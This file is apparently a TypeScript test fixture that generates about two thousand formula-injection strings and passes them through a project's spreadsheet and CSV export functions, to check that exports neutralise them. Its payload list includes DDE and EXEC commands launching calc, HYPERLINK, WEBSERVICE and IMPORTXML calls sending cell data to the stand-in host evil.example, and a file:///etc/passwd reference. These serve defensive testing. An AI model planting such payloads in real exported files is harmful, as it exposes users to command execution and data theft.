import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { csvText } from '#kernel/spreadsheet/csv.ts'
import { ListWriter } from '#kernel/spreadsheet/making/list-sheet.ts'
import { markFile } from '#kernel/spreadsheet/making/marked.ts'
import { makeTable } from '#kernel/spreadsheet/making/table.ts'
import { plainXlsx } from '#kernel/spreadsheet/plain.ts'
import { makeTemplate } from '#kernel/spreadsheet/template.ts'
import { openAnswersTable } from '#modules/cases/portal.ts'
import { agreementTable } from '#modules/consultations/portal.ts'
import { writeTable } from '#modules/demands/texts/tables.ts'
import { rosterTemplate, templateColumns } from '#modules/members/workbooks/template-columns.ts'

const signs = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠', '|']
const before = ['', ' ', '   ', '\u3000', '\u00a0', '\ufeff', '\u2003', '\t', '\n', '\r\n', ' \u3000']
const bodies = [
  ...['1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"看这里")', '-1+1'],
  ...['WEBSERVICE("http://evil.example/")', 'IMPORTXML("http://evil.example/","//a")', 'DDE("cmd";"/C calc";"x")'],
  ...["'file:///etc/passwd'#$Sheet1.A1", 'A1', '"a",=1+1', 'x\r\n=1+1', 'EXEC("calc")', '@SUM(1)'],
]

/** Two thousand and two texts that want to be a formula: every sign, behind every blank, before every body (T07). */
export const formulaCells: readonly string[] = signs.flatMap((sign) =>
  before.flatMap((blank) => bodies.map((body) => `${blank}${sign}${body}`)),
)

type Writer = (cells: readonly string[]) => Promise<Uint8Array> | Uint8Array
const rowsOf = (cells: readonly string[]) => cells.map((cell) => [cell, '旁边'])
const bytes = (text: string) => new TextEncoder().encode(text)

async function list(cells: readonly string[]): Promise<Uint8Array> {
  const columns = [
    { title: cells[0] ?? '', width: 20 },
    { title: '旁边', width: 20 },
  ]
  const writer = new ListWriter({
    sheet: '名册',
    title: cells[1] ?? '',
    note: cells[2] ?? '',
    columns,
    watermark: cells[3] ?? '',
  })
  writer.add(rowsOf(cells))
  return writer.finish()
}

async function marked(cells: readonly string[]): Promise<Uint8Array> {
  const uploaded = await plainXlsx([['姓名'], ...cells.map((_, at) => [`张${at}`])], { sheet: '名册', widths: [20] })
  const faults = new Map(cells.map((cell, at) => [at + 2, cell]))
  const of = { sheet: '名册', headings: ['姓名'], lastRow: 1, onlyWrong: false, heading: cells[0] ?? '' }
  return markFile({ ...of, bytes: uploaded, faults })
}

// Its headings and examples are ours; somebody else's are the names of organisations, which may be chosen.
const template = (cells: readonly string[]) =>
  makeTemplate(rosterTemplate(cells[0] ?? '', templateColumns(cells, cells)))

function voices(cells: readonly string[]): Uint8Array {
  const folder = mkdtempSync(join(tmpdir(), 'lianxin-cells-'))
  const file = join(folder, 'texts.csv')
  writeTable(file, ['留言', '旁边'], rowsOf(cells))
  const written = readFileSync(file)
  rmSync(folder, { recursive: true })
  return written
}

const day = new Date('2026-03-10T00:00:00Z')

/** Everything that writes a file which a spreadsheet opens. */
export const writers: Readonly<Record<string, { readonly form: 'xlsx' | 'csv'; readonly write: Writer }>> = {
  'a roster': { form: 'xlsx', write: list },
  'a marked roster': { form: 'xlsx', write: marked },
  'the wrong rows of a roster': { form: 'xlsx', write: (cells) => makeTable(rowsOf(cells)) },
  'a template': { form: 'xlsx', write: template },
  'answers to a file of messages': {
    form: 'xlsx',
    write: (cells) => plainXlsx(rowsOf(cells), { sheet: '答复', widths: [20, 20] }),
  },
  'one-time links of a list of accounts': {
    form: 'xlsx',
    write: (cells) => plainXlsx(rowsOf(cells), { sheet: '激活链接', widths: [14, 90] }),
  },
  'the same as .csv': { form: 'csv', write: (cells) => bytes(csvText(rowsOf(cells))) },
  'public questions and answers': {
    form: 'csv',
    write: (cells) =>
      bytes(
        openAnswersTable(
          cells.map((cell) => ({ at: day, title: cell, body: cell, answeredAt: day, byName: cell, answer: cell })),
        ),
      ),
  },
  'texts for learning': { form: 'csv', write: voices },
  'the numbers of a consultation': {
    form: 'csv',
    write: (cells) => bytes(agreementTable(toldOf(cells))),
  },
}

// As the page of a closed consultation knows it; only what the table reads.
function toldOf(cells: readonly string[]): Parameters<typeof agreementTable>[0] {
  const statements = cells.map((text, no) => ({ no, text, outcome: null }))
  const numbers = cells.map((_, no) => ({ no, agree: 10, disagree: 10, pass: 10 }))
  return { statements, findings: { statements: numbers }, closedAt: day } as unknown as Parameters<
    typeof agreementTable
  >[0]
}
